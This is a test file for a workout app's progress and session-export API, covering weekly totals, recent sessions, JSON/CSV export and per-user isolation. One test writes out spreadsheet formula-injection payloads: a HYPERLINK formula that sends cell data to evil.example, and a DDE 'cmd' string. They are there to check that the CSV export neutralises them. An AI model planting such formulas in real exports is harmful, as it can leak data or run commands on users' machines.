import { beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import * as montageRoute from '../../app/api/montages/[id]/route';
import * as sessionsRoute from '../../app/api/sessions/route';
import * as exportRoute from '../../app/api/sessions/export/route';
import { getDb } from '../../db/client';
import { getProgress } from '../../db/queries/progress';
import { exerciseSeries, streakWeeks } from '../../lib/domain/progress';
import { logEntry } from '../../lib/domain/session-record';
import { Visitor } from './api-client';
import { followWorkout, visitorWithMontage } from './workouts';

// Opening the database (migrations, the catalog) may take longer than one test on a loaded machine.
beforeAll(async () => {
  await getDb();
}, 120_000);

/** A workout on `day` followed for `untilMs`, with `reps` logged after its first work interval. */
function workout(montage: any, day: string, untilMs: number, reps?: number) {
  let state = followWorkout(montage, untilMs, Date.parse(`${day}T07:00:00Z`));
  if (reps !== undefined) state = logEntry(state, 0, { reps, loadKg: 40 });
  return state.record;
}

async function download(visitor: Visitor, format: string) {
  const headers = new Headers(visitor.cookie ? { cookie: visitor.cookie } : {});
  return exportRoute.GET(new Request(`http://127.0.0.1:3000/api/sessions/export?format=${format}`, { headers }));
}

describe('progress from recorded sessions', () => {
  it('totals minutes per week, counts completed and abandoned, and charts logged entries with bests', async () => {
    const { visitor, montage, ownerId } = await visitorWithMontage();
    expect(await getProgress(await getDb(), ownerId)).toEqual({ weeks: [], completed: 0, abandoned: 0, totalActiveMs: 0, entries: [], recent: [] });
    const sessions = [
      workout(montage, '2026-11-10', montage.totalMs, 10),
      workout(montage, '2026-11-12', 5 * 60_000, 14),
      workout(montage, '2026-11-18', montage.totalMs, 12),
    ];
    for (const s of sessions) expect((await visitor.call(sessionsRoute.POST, 'POST', { body: s })).status).toBe(201);
    const progress = await getProgress(await getDb(), ownerId);
    expect(progress.totalActiveMs).toBe(2 * montage.totalMs + 5 * 60_000);
    expect(progress.completed).toBe(2);
    expect(progress.abandoned).toBe(1);
    expect(progress.weeks).toEqual([
      { week: '2026-11-09', activeMs: montage.totalMs + 5 * 60_000, sessions: 2 },
      { week: '2026-11-16', activeMs: montage.totalMs, sessions: 1 },
    ]);
    expect(streakWeeks(progress.weeks.map((w) => w.week), new Date('2026-11-20T00:00:00Z'))).toBe(2);
    const exercise = montage.entries[0].intervals[0].exercise;
    const reps = exerciseSeries(progress.entries).find((s) => s.exercise === exercise && s.metric === 'reps')!;
    expect(reps.points.map((p) => [p.value, p.isBest])).toEqual([
      [10, true],
      [14, true],
      [12, false],
    ]);
    expect(progress.recent.map((s) => s.id)).toEqual([sessions[2]!.id, sessions[1]!.id, sessions[0]!.id]);
  });

  it('lists the latest 30 sessions (or as many as asked), newest first', async () => {
    const { visitor, montage, ownerId } = await visitorWithMontage();
    const days = Array.from({ length: 31 }, (_, i) => new Date(Date.UTC(2026, 9, 1 + i)).toISOString().slice(0, 10));
    for (const day of days) await visitor.call(sessionsRoute.POST, 'POST', { body: workout(montage, day, 60_000) });
    const { recent, weeks } = await getProgress(await getDb(), ownerId);
    expect(recent).toHaveLength(30);
    expect(recent[0]!.startedAt.toISOString().slice(0, 10)).toBe('2026-10-31');
    expect(weeks.reduce((n, w) => n + w.sessions, 0)).toBe(31);
    expect((await getProgress(await getDb(), ownerId, { recentLimit: 2 })).recent).toHaveLength(2);
  });

  it('exports the history as JSON (sessions with intervals) and CSV (one row per interval)', async () => {
    const { visitor, montage } = await visitorWithMontage();
    const session = workout(montage, '2026-11-21', 90_000, 8);
    await visitor.call(sessionsRoute.POST, 'POST', { body: session });

    const json = await download(visitor, 'json');
    expect(json.headers.get('content-disposition')).toMatch(/attachment; filename="montage-sessions-.*\.json"/);
    const body = await json.json();
    expect(body.sessions).toHaveLength(1);
    expect(body.sessions[0]).toMatchObject({ id: session.id, status: 'abandoned', montageName: montage.name, activeMs: session.activeMs });
    expect(body.sessions[0].intervals).toHaveLength(session.intervals.length);
    expect(body.sessions[0].intervals[0]).toMatchObject({ exercise: session.intervals[0]!.exercise, reps: 8, loadKg: 40, status: session.intervals[0]!.status });

    const csv = await download(visitor, 'csv');
    expect(csv.headers.get('content-type')).toMatch(/^text\/csv/);
    const rows = parse(await csv.text(), { columns: true }) as Record<string, string>[];
    expect(rows).toHaveLength(session.intervals.length);
    expect(rows[0]).toMatchObject({ session_id: session.id, exercise: session.intervals[0]!.exercise, reps: '8', load_kg: '40' });
    expect(rows.map((r) => r.interval_status)).toEqual(session.intervals.map((i) => i.status));
  });

  it('writes names a spreadsheet would run as formulas (=, +, -, @) as text in the CSV, and as they are in JSON', async () => {
    const { visitor, montage } = await visitorWithMontage();
    const name = '=HYPERLINK("http://evil.example/?"&A1,"Rocky")';
    expect((await visitor.call(montageRoute.PATCH, 'PATCH', { params: { id: montage.id }, body: { version: montage.version, name } })).status).toBe(200);
    const session = workout({ ...montage, name }, '2026-11-22', 90_000);
    session.intervals[0]!.exercise = '@SUM(1+1)*cmd|"/C calc"!A0';
    expect((await visitor.call(sessionsRoute.POST, 'POST', { body: session })).status).toBe(201);
    const rows = parse(await (await download(visitor, 'csv')).text(), { columns: true }) as Record<string, string>[];
    expect(rows[0]!.montage_name).toBe(`'${name}`);
    expect(rows[0]!.exercise).toBe(`'${session.intervals[0]!.exercise}`);
    const json = await (await download(visitor, 'json')).json();
    expect(json.sessions[0].intervals[0].exercise).toBe(session.intervals[0]!.exercise);
  });

  it("exports nothing of anyone else's, and refuses an unknown format naming it", async () => {
    const stranger = new Visitor();
    const empty = await (await download(stranger, 'json')).json();
    expect(empty.sessions).toEqual([]);
    const bad = await download(stranger, 'xml');
    expect(bad.status).toBe(422);
    expect((await bad.json()).error.problems[0].field).toBe('format');
  });
});
